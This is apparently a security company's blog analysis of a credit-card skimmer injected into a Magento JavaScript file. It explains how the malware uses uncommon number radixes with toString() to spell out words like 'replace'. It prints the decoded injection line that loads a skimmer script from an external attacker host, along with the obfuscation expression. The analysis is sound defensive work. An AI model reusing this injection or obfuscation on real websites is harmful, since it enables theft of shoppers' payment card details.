Uncommon Radixes Used in Malware Obfuscation

Uncommon Radixes Obfuscation

Some JavaScript features allow for pretty interesting obfuscation techniques. For example, did you know that virtually any English word can be used as a valid number?

I recently decoded a credit card stealing script injected at the bottom of a js/varien/js.js file:

Obuscated function
Obfuscated RRN() function at the bottom of the js.js file

There were several layers of obfuscation. During the final stage of decoding, I identified that this code writessomething to web pages with URLs containing one of the following keywords onepage|checkout|onestep|firecheckout, typically used on checkout pages.

Last stage of deobfuscation

The result of the operation is the injection of an external script from “dnsden[.]biz” that steals credit card details:

<script src='https://code.jquery.com/jquery-1.11.1.min.js'></script><script type='text/javascript'>var jQuery17 = $.noConflict(true);</script><script src='hxxps://dnsden[.]biz/d.js'></script>

But the question is: How is that encrypted text turned into meaningful HTML code?First of all, let me prettify this part:

[(3531671744 * "\x8a&|9pbE\x83M6J\x88" ["length"] + 6.0)["toString"]((6.0 + "b(B\x80c.\x86" ["length"] * 4))]

After a [partial] cleanup, it reduces to this:


Still don’t see how this conversion of one big number to a string can help decode the text? You might need to reread the documentation of theNumber.prototype.toString() method and pay attention to the optional radix parameter. This parameter helps get a string representation of a given number in the specified radix (base).

As you know, we have only ten digits from 0 through 9. Fornumbers with bases larger than10, we have to use letters for numerals larger than 9. This approach is quite familiar to us when we use hexadecimal numbers (base 16). In addition to the normal 0…9 digits, their representations include letters a,b,c,d,e,f.

In the case of radixes larger than 16, we use even more letters. For example, for radix 36, we would use ten digits 0..9 and 26 letters a..z. This makes it possible to come up with a numeric representation of any English word. It also means that some numbers will look like real English words when you use a certain radix.

In the example seen above, (42380060934).toString(34) converts the decimal number 42380060934 to its string representation in the radix 34, which is equal to the number “replace”. It’s written exactly like the English word “replace” and the JavaScript String method “replace()”. If you play with the radixes, you can come up with multiple versions of the same word. For example, decimal number 35447944667 can also be written as “replace” if you use radix 33.The obfuscated part now looks like:

“{encrypted-text>”[“replace”](/[26YV\#\@LA\+0ZR\&8\_J\`\*\~\]UHOwkMNKIEP9FgWSGD\[5T43\!XB]/g, "")

It becomes clear that this replace function is used to strip unused characters from the encrypted text, leaving onlythe code that it tries to inject into the compromised pages.


Bad actors routinely leverage obfuscation to hide malicious indicators and prevent removal or analysis — even the most common malware can evade detection if it has been craftily obfuscated in an unexpected way.

Every now and then, we discover gems like this one. These clever obfuscation techniques break up themonotony by showing how little known language features can be used in an unexpected way.

If youbelieve that your website hasbeen compromised and you need help identifying the issue or cleaning up the infection, we can help.

You May Also Like